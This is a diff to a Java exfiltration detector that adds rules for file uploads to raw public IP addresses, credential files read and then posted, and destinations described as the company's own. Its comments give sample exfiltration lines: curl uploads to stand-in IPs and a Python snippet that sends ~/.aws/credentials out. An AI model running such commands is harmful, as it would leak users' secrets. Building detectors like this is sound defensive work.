@@ -1211,7 +1211,7 @@ public final class ExfiltrationDetector {
                 out.add(new ExfiltrationMatch("EXFILTRATION_INSTRUCTION", null, Severity.HIGH, 0.8, us, ue));
                 continue;
             }
-            if (commands && !localUrl(text, sep + 3) && uploadShape(text, us, ue, out)) {
+            if (commands && !localUrl(text, hostStart(text, sep + 3, ue)) && uploadShape(text, us, ue, out)) {
                 continue;
             }
             if (asksToMove(text, cues, ss, us, ue)) {
@@ -1243,6 +1243,20 @@ public final class ExfiltrationDetector {
             he++;
         }
         return mixedScript(text, sep + 3, he) && (cues.noun() || cues.secret() || cues.company()) ? le : -1;
+    }
+
+    /** The host's start in a URL whose authority starts at {@code p}: after its user information ("anon:pw@"), if any. */
+    private static int hostStart(String text, int p, int ue) {
+        for (int q = p; q < ue; q++) {
+            char c = text.charAt(q);
+            if (c == '@') {
+                return q + 1;
+            }
+            if (c == '/' || c == '?' || c == '#') {
+                break;
+            }
+        }
+        return p;
     }
 
     /**
@@ -1283,7 +1297,7 @@ public final class ExfiltrationDetector {
 
     /** {@link #asksToMove} on what was read. */
     private static boolean asks(String text, TransferSentences.Cues c, int ss, int us, int ue) {
-        if (!(c.verb || c.weakVerb && c.noun()) || ownBefore(text, ss, us)) {
+        if (!(c.verb || c.weakVerb && c.noun()) || ownBefore(text, ss, us) || ownAfter(text, ue)) {
             return false;
         }
         if (c.noun() || c.secret() && !TransferSentences.usage(TransferSentences.fold(text, Math.max(ss, us - 300),
@@ -1323,6 +1337,23 @@ public final class ExfiltrationDetector {
         String dest = m.find() ? before.substring(m.start()) : before;
         return TransferSentences.OWN.find(dest) && !PERSON_ELSEWHERE.matcher(dest).find();
     }
+
+    /**
+     * Whether the words right after a destination ending at {@code ue}, in brackets or after a comma or a dash, call it
+     * the organisation's ("https://acme.splunkcloud.com:8088 (our tenant)", "…, which is ours"; twenty-seventh
+     * session: a SIEM forwarder set up for the company's own cloud tenant).
+     */
+    private static boolean ownAfter(String text, int ue) {
+        int to = Math.min(text.length(), ue + OWN_REACH);
+        return ue < to && OWN_AFTER.matcher(TransferSentences.fold(text, ue, to)).lookingAt();
+    }
+
+    /** See {@link #ownAfter} (folded text). */
+    private static final java.util.regex.Pattern OWN_AFTER = java.util.regex.Pattern.compile("[\"'`]?\\s{0,2}[(,\u2014\u2013-]"
+            + "\\s{0,2}(?:which is |that's |that is |this is |it's |it is )?(?:ours\\b|(?:our|onze|unser\\w*|notre|nos"
+            + "|nuestr[oa]s?|nostr[oaie]|the company's|company|corporate) (?:own )?(?:[\\w-]+ )?(?:tenant|instance|account"
+            + "|workspace|org\\w*|subscription|stack|deployment|cluster|endpoint|server|siem|bucket|environment|domain|site"
+            + "|portal|collector|host|cloud|omgeving|umgebung|instanz|compte|cuenta|istanza)s?\\b)");
 
     /**
      * "our contact at Globex", "my counterpart at the bank": a person of another organisation, whatever the possessive
@@ -2029,7 +2060,8 @@ public final class ExfiltrationDetector {
         }
         int end = commandEnd(text, ue);
         int cmdLine = lineAround(text, cmd)[0];
-        if (carriesData(text, cmd, end, us, ue) || pipedSecret(text, cmdLine, cmd) || openedAndPosted(text, cmd, end)) {
+        if (carriesData(text, cmd, end, us, ue) || pipedSecret(text, cmdLine, cmd) || openedAndPosted(text, cmd, end)
+                || boundAndPosted(text, cmd, end) || uploadToRawAddress(text, cmd, end, us, ue)) {
             report(text, cmd, end, out);
             return true;
         }
@@ -2058,6 +2090,75 @@ public final class ExfiltrationDetector {
         }
         return false;
     }
+
+    /**
+     * Any file uploaded to a raw public address ({@code curl -F "f=@$part" http://203.0.113.7:8080/u}, {@code curl -T -
+     * ftp://anon@198.51.100.4/drop/}; twenty-seventh session): no service of the organisation is reached by a bare
+     * public IPv4 address, as for the copies of {@link #copyToHost}; not when the line calls it the organisation's.
+     */
+    private static boolean uploadToRawAddress(String text, int cmd, int end, int us, int ue) {
+        int hs = Texts.indexOf(text, "://", us, ue);
+        if (hs < 0) {
+            return false;
+        }
+        hs += 3;
+        int he = hs;
+        while (he < ue && "/?#".indexOf(text.charAt(he)) < 0) {
+            he++;
+        }
+        int at = text.lastIndexOf('@', he - 1);
+        if (at >= hs) {
+            hs = at + 1; // user information before the host
+        }
+        int colon = Texts.indexOf(text, ":", hs, he);
+        if (colon >= 0) {
+            he = colon;
+        }
+        if (he <= hs || !publicIpv4(text, hs, he) || localUrl(text, hs)) {
+            return false;
+        }
+        int[] line = lineAround(text, cmd);
+        return FILE_SENT.matcher(text).region(cmd, end).find() && !ownServer(text, line[0], line[1]);
+    }
+
+    /** A file sent by a request: curl's {@code -T}/{@code --upload-file}, a form field or a body read from a file. */
+    private static final java.util.regex.Pattern FILE_SENT = java.util.regex.Pattern.compile("\\s(?:-T|--upload-file"
+            + "|-InFile)\\s+\\S|\\s(?:-F|--form)\\s+[\"']?[\\w.-]{0,40}=[@<]|\\s(?:--data-binary|--data|-d)\\s+[\"']?@"
+            + "|\\bfiles\\s*=");
+
+    /**
+     * A credential file read into a name in the lines before a request, the name then sent in its {@code files},
+     * {@code data}, {@code json} or {@code content} argument ({@code blob = b64encode(Path.home().joinpath(
+     * '.aws/credentials').read_bytes())} ... {@code requests.post(url, json={'m': blob})}; twenty-seventh session):
+     * what {@link #openedAndPosted} does for a file handle, for a value read and transformed.
+     */
+    private static boolean boundAndPosted(String text, int cmd, int end) {
+        String call = text.substring(cmd, end);
+        if (!call.contains("files=") && !call.contains("data=") && !call.contains("json=") && !call.contains("content=")) {
+            return false;
+        }
+        java.util.regex.Matcher m = BOUND_READ.matcher(text).region(Math.max(0, cmd - SENDER_REACH), cmd);
+        while (m.find()) {
+            String line = m.group(2);
+            java.util.regex.Matcher q = QUOTED.matcher(line);
+            boolean secret = false;
+            while (!secret && q.find()) {
+                secret = sensitivePath(q.group(1));
+            }
+            if (secret && java.util.regex.Pattern.compile("(?:files|data|json|content)=[^)]{0,80}?(?<![\\w.])"
+                    + java.util.regex.Pattern.quote(m.group(1)) + "(?![\\w])").matcher(call).find()) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /** A name bound to a value on its line (group 1: the name, group 2: the rest of the line). */
+    private static final java.util.regex.Pattern BOUND_READ = java.util.regex.Pattern.compile("(?m)^\\s*(\\w{1,40})\\s*=(?!=)"
+            + "([^\\n]{0,400}?(?:read|open|load|get_?contents?|readfile)[^\\n]{0,400})");
+
+    /** A quoted string (group 1: its contents). */
+    private static final java.util.regex.Pattern QUOTED = java.util.regex.Pattern.compile("['\"]([^'\"\\n]{1,200})['\"]");
 
     /** A file opened and bound to a name: {@code with open("p") as f}, {@code f = open("p")}. */
     private static final java.util.regex.Pattern OPENED = java.util.regex.Pattern.compile("open\\(\\s*[rf]?['\"]([^'\"\\n]{1,200})"
